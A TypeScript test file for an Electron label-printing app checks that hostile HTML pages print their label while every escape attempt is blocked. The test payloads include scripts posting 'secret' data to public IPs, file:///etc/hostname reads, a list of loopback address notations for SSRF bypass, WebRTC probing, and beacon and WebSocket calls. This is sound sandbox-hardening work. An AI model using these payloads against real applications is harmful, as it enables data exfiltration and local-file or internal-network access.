import { createSocket } from 'node:dgram';
import { hostForLog } from '../../main/log/host-for-log.ts';
import { drawn, expectNext } from './drawn-label.ts';
import { startForbiddenHosts } from './forbidden-hosts.ts';
import { labelHtml } from './label-html.ts';
import { expect, readPageTexts, test } from './label-lab.ts';
import { respondWithToken, startFakePartner } from './partner-process.ts';
import { setToken, stationPage } from './station-page.ts';
import { expectHardenedWindows } from './window-preferences.ts';

/** What a hostile page knows of its surroundings. */
interface Around {
  readonly code: string;
  readonly here: string;
  readonly outside: string;
}
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"/>';
/** Reports the outcome of an attempt, so that the test sees that it was made. */
const tried = (name: string, expression: string): string =>
  `<script>(async () => { try { console.log('${name}: ' + await (${expression})) } catch (error) { console.log('${name}: refused ' + error.name) } })()</script>`;

/**
 * The label is there, so it prints, whatever else the page tries. The third element is Chromium's message about the
 * attempt.
 */
const PRINTED: readonly [string, (around: Around) => string, RegExp?][] = [
  ['alert', () => '<script>alert(1)</script>', /Ignored call to 'alert\(\)'/],
  ['confirm', () => '<script>confirm(1)</script>', /Ignored call to 'confirm\(\)'/],
  ['prompt', () => '<script>prompt(1)</script>', /Ignored call to 'prompt\(\)'/],
  ['window.print', () => '<script>print()</script>', /Ignored call to 'print\(\)'/],
  [
    'window.open',
    ({ outside }) => tried('open', `window.open('${outside}/popup')`),
    /Blocked opening .* 'allow-popups'/,
  ],
  [
    'a link to a new window, pressed by script',
    ({ outside }) =>
      `<a target="_blank" href="${outside}/link">x</a><script>document.querySelector('a').click()</script>`,
    /Blocked opening .* 'allow-popups'/,
  ],
  ['location =', ({ outside }) => `<script>location = '${outside}/away'</script>`],
  ['location = its own host', ({ here }) => `<script>location = '${here}/elsewhere'</script>`],
  ['location.reload', () => '<script>addEventListener("load", () => location.reload())</script>'],
  [
    'location = after load',
    ({ outside }) => `<script>setTimeout(() => { location = '${outside}/away' }, 5)</script>`,
  ],
  [
    'a link, pressed by script',
    ({ outside }) => `<a href="${outside}/link">x</a><script>document.querySelector('a').click()</script>`,
  ],
  ['a refresh', ({ outside }) => `<meta http-equiv="refresh" content="0; url=${outside}/refresh">`],
  [
    'a form',
    ({ outside }) =>
      `<form method="post" action="${outside}/form"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
    /Blocked form submission|violates .*form-action/,
  ],
  [
    'a download',
    ({ here }) =>
      `<a download href="${here}/file.zip">x</a><script>document.querySelector('a').click()</script>`,
  ],
  ['another host’s frame', ({ outside }) => `<iframe src="${outside}/frame"></iframe>`, /frame-src/],
  ['a frame of its own host', ({ here }) => `<iframe src="${here}/frame"></iframe>`, /frame-src/],
  [
    'an object',
    ({ outside }) => `<object data="${outside}/object"></object><embed src="${outside}/embed">`,
    /object-src|frame-src/,
  ],
  ['a file by picture', () => '<img src="file:///etc/hostname">', /Not allowed to load local resource/],
  [
    'a file by frame',
    () => '<iframe src="file:///etc/hostname"></iframe>',
    /frame-src|Not allowed to load local/,
  ],
  [
    'a file by fetch',
    () => tried('file', "fetch('file:///etc/hostname').then((answer) => answer.text())"),
    /file: refused/,
  ],
  [
    'a file by XMLHttpRequest',
    () =>
      tried(
        'file',
        "new Promise((resolve, reject) => { const ask = new XMLHttpRequest(); ask.onload = () => resolve(ask.responseText); ask.onerror = reject; ask.open('GET', 'file:///etc/hostname'); ask.send() })",
      ),
    /file: refused/,
  ],
  [
    'the app’s own scheme',
    () => tried('app', "fetch('app://tem/index.html').then((answer) => answer.text())"),
    /app: refused/,
  ],
  [
    'another host’s data',
    ({ outside }) => tried('data', `fetch('${outside}/data').then((answer) => answer.text())`),
    /data: refused/,
  ],
  [
    'another host’s data, sent there',
    ({ outside }) =>
      tried('data', `fetch('${outside}/data', { method: 'POST', mode: 'no-cors', body: 'x' })`),
    /data: refused/,
  ],
  [
    'a beacon',
    ({ outside }) => tried('beacon', `navigator.sendBeacon('${outside}/beacon', 'x')`),
    /beacon: /,
  ],
  [
    'a WebSocket',
    ({ outside }) =>
      tried(
        'socket',
        `new Promise((resolve, reject) => { const socket = new WebSocket('${outside.replace('http', 'ws')}/socket'); socket.onopen = resolve; socket.onerror = reject })`,
      ),
    /connect-src/,
  ],
  [
    'a worker',
    ({ here }) =>
      tried(
        'worker',
        `new Promise((resolve, reject) => { const worker = new Worker('${here}/worker.js'); worker.onerror = reject })`,
      ),
    /worker-src/,
  ],
  [
    'a service worker',
    ({ here }) => tried('service', `navigator.serviceWorker.register('${here}/service.js')`),
    /service: refused/,
  ],
  [
    'where it is',
    () =>
      tried(
        'where',
        'new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))',
      ),
    /where: refused/,
  ],
  [
    'beforeunload',
    () => '<script>onbeforeunload = (event) => { event.preventDefault(); return "stay" }</script>',
  ],
  ['a huge page', () => `<p>${'x '.repeat(300_000)}</p>`],
  ['a deep page', () => '<div>'.repeat(20_000)],
];
for (const [what, page, said] of PRINTED) {
  test(`prints the label and lets nothing out: ${what}`, async ({ label, labApp, host, outside }) => {
    const [code = ''] = host.codes;
    const asked = { outside: outside.requests.length, host: host.requests.length };
    const answer = await label(drawn(code) + page({ code, here: host.url, outside: outside.url }));
    expect(answer.problem).toBeNull();
    expect((await readPageTexts(answer)).join()).toContain(code);
    expect(outside.requests.slice(asked.outside)).toEqual([]);
    expect(host.requests.slice(asked.host)).toEqual([]);
    if (said !== undefined) expect((await labApp.evaluate(() => labelLab.said)).join('\n')).toMatch(said);
    // The page is still the one that main received.
    expect(await labApp.evaluate(() => labelLab.address())).toContain('/orders/awb?token=t');
    await expectNext(label, labApp, code);
  });
}

/** Every notation for this machine's address; `outside` listens there. */
const THIS_MACHINE = [
  '127.0.0.1',
  '127.1',
  '0x7f.1',
  '0x7f000001',
  '2130706433',
  '0177.0.0.1',
  'localhost',
  'LOCALHOST.',
  'any.localhost',
  '0.0.0.0',
  '[::1]',
  '[::ffff:127.0.0.1]',
  '[0:0:0:0:0:ffff:7f00:1]',
];

test('gives a page nothing of this machine except the partner’s own, in any notation of the address', async ({
  label,
  labApp,
  host,
  outside,
}) => {
  const [code = ''] = host.codes;
  const asked = outside.requests.length;
  const { port } = new URL(outside.url);
  const parts = THIS_MACHINE.flatMap((name) => [
    `<img src="http://${name}:${port}/a.png">`,
    `<script src="//${name}:${port}/a.js"></script>`,
    `<link rel="stylesheet" href="http://${name}:${port}/a.css">`,
  ]);
  const answer = await label(`${parts.join('')}<img src="/own.png">${drawn(code)}`);
  expect(answer.problem).toBeNull();
  // Refused requests are not waited for.
  expect(answer.settled?.quiet).toBe(true);
  expect((await readPageTexts(answer)).join()).toContain(code);
  expect(outside.requests.slice(asked)).toEqual([]);
  expect(host.requests).toContain('GET /own.png');
  const refused = await labApp.evaluate(() => labelLab.logged);
  const hosts = new Set(THIS_MACHINE.map((name) => new URL(`http://${name}`).hostname));
  expect(refused).toHaveLength(hosts.size);
  expect(refused).toEqual(
    [...hosts].map((named) =>
      expect.objectContaining({
        event: 'label subresource refused',
        host: hostForLog(named),
        why: 'not-public',
      }),
    ),
  );
  expect(JSON.stringify(refused)).not.toContain('token');
});

test('gives a page of another host no more of this machine than any other', async ({
  label,
  labApp,
  host,
}) => {
  const [code = ''] = host.codes;
  const answer = await label(`<img src="/private.png">${drawn(code)}`, { partner: [] });
  expect(answer.problem).toBeNull();
  expect(host.requests).not.toContain('GET /private.png');
  expect(await labApp.evaluate(() => labelLab.logged)).toMatchObject([{ why: 'not-public' }]);
});

test('lets a script contact no host that the page does not name, and send nothing to one that it names', async ({
  label,
  labApp,
  host,
}) => {
  const [code = ''] = host.codes;
  // Both are public addresses, and neither may be contacted: the script assembles 'new'; the page contains 'named'.
  const html = `${drawn(code)}<script>
    const at = (...parts) => 'https://' + parts.join('.');
    new Image().src = at(8, 8, 8, 8) + '/?secret';
    fetch(at(8, 8, 4, 4), { mode: 'no-cors' }).catch(() => undefined);
    fetch('https://9.9.9.9/', { method: 'POST', mode: 'no-cors', body: 'secret' }).catch(() => undefined);
  </script>`;
  expect((await label(html)).problem).toBeNull();
  expect(await labApp.evaluate(() => labelLab.logged)).toEqual(
    expect.arrayContaining([
      expect.objectContaining({ host: '[public]', type: 'image', why: 'not-named' }),
      expect.objectContaining({ host: '[public]', why: 'method' }),
    ]),
  );
  // The page's policy already refuses what scripts request themselves.
  expect((await labApp.evaluate(() => labelLab.said)).join()).toMatch(/8\.8\.4\.4.*connect-src/s);
});

test('loads a font only from where a stylesheet of the page says', async ({ label, labApp, host }) => {
  const [code = ''] = host.codes;
  const font =
    '<script>new FontFace("b", "url(http://10.255.255." + "2/b.woff)").load().catch(() => 0)</script>';
  const html = `<link rel="stylesheet" href="/own.css">${drawn(code)}${font}`;
  const answer = await label(html);
  expect(answer.problem).toBeNull();
  expect(answer.settled?.quiet).toBe(true);
  // The stylesheet names this host, so its address is judged; nothing names the other one.
  expect(await labApp.evaluate(() => labelLab.logged)).toEqual(
    expect.arrayContaining([
      { event: 'label subresource refused', host: '[private]', type: 'font', why: 'not-public' },
      { event: 'label subresource refused', host: '[private]', type: 'font', why: 'not-named' },
    ]),
  );
});

test('requests no part behind an untrusted certificate, not even the partner’s', async ({ label, host }) => {
  const [code = ''] = host.codes;
  const { tlsUrl, requests, close } = await startForbiddenHosts();
  const partner = [new URL(host.url).origin, tlsUrl];
  const answer = await label(`<img src="${tlsUrl}/a.png">${drawn(code)}`, { partner });
  expect(answer.problem).toBeNull();
  expect(requests).toEqual([]);
  await close();
});

test('sends no packet of a page’s WebRTC', async ({ label, labApp, host }) => {
  const [code = ''] = host.codes;
  let packets = 0;
  const stun = createSocket('udp4', () => packets++);
  await new Promise<void>((resolve) => stun.bind(0, resolve));
  const { port } = stun.address();
  const gathered = `new Promise((resolve) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
    const candidates = [];
    connection.onicecandidate = ({ candidate }) =>
      candidate === null ? resolve(candidates.length + ' candidates') : candidates.push(candidate);
    connection.createDataChannel('x');
    connection.setLocalDescription();
  })`;
  expect((await label(drawn(code) + tried('rtc', gathered))).problem).toBeNull();
  await expect.poll(() => labApp.evaluate(() => labelLab.said)).toContain('rtc: 0 candidates');
  expect(packets).toBe(0);
  stun.close();
});

test('blocking WebRTC blocks no part: redirected, with a query, as data or as a blob', async ({
  label,
  labApp,
}) => {
  const partner = await startFakePartner(({ url = '' }, response) => {
    if (url.startsWith('/away')) response.writeHead(302, { location: '/part?a=1' }).end();
    else response.writeHead(200, { 'content-type': 'image/svg+xml' }).end(SVG);
  });
  const shown = (name: string, src: string): string =>
    `<img src="${src}" onload="console.log('${name}: ' + this.naturalWidth)">`;
  const html = `<p>x</p>${shown('query', '/part?q=a%20b#c')}${shown('redirected', '/away?to')}
    ${shown('data', `data:image/svg+xml,${encodeURIComponent(SVG)}`)}
    <script>
      const blob = URL.createObjectURL(new Blob([${JSON.stringify(SVG)}], { type: 'image/svg+xml' }));
      document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(shown('blob', 'BLOB'))}.replace('BLOB', blob));
      fetch('/part').then(({ status }) => console.log('fetched: ' + status));
    </script>`;
  expect(
    (await label(html, { url: `${partner.url}/awb?token=t`, partner: [partner.url] })).problem,
  ).toBeNull();
  await expect
    .poll(() => labApp.evaluate(() => labelLab.said))
    .toEqual(expect.arrayContaining(['query: 7', 'redirected: 7', 'data: 7', 'blob: 7', 'fetched: 200']));
  await partner.close();
});

test('the whole app prints a hostile page with only its label, in the two windows, and then the next page', async ({
  harness,
  fakePartner,
  outside,
}) => {
  const asked = outside.requests.length;
  let round = 0;
  const partner = await fakePartner(
    respondWithToken((_request, response) => {
      const code = partner.codes[round++] ?? '';
      response.setHeader('content-type', 'text/html; charset=utf-8');
      response.end(`${labelHtml([{ barcodes: [code.split('.')[1] ?? ''], text: code }])}<script>
        window.open('${outside.url}/popup'); alert(1); print();
        fetch('${outside.url}/data'); location.href = '${outside.url}/away';
      </script>`);
    }),
  );
  harness.writeServiceSettings(partner);
  const { app, page } = await harness.start();
  await setToken(page, 'any');
  for (const [at, code] of partner.codes.entries()) {
    await stationPage(page).scan(code);
    await page.keyboard.press('F9');
    await expect
      .poll(stationPage(page).states, { timeout: 20_000 })
      .toEqual(partner.codes.slice(0, at + 1).map(() => 'printed'));
  }
  expect(outside.requests.slice(asked)).toEqual([]);
  // The station's window, and at most one for each of the two documents processed at a time.
  const windows = await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length);
  expect(windows).toBeLessThanOrEqual(3);
  await expectHardenedWindows(app);
  // A label page has neither Tem's preload nor Node.
  const globals = await app.evaluate(({ BrowserWindow }) =>
    Promise.all(
      BrowserWindow.getAllWindows()
        .filter(({ webContents }) => !webContents.getURL().startsWith('app:'))
        .map(
          ({ webContents }): Promise<unknown> =>
            webContents.executeJavaScript(
              "['tem', 'require', 'process', 'module'].filter((name) => name in globalThis)",
            ),
        ),
    ),
  );
  expect(globals).not.toEqual([]);
  expect(globals.flat()).toEqual([]);
});
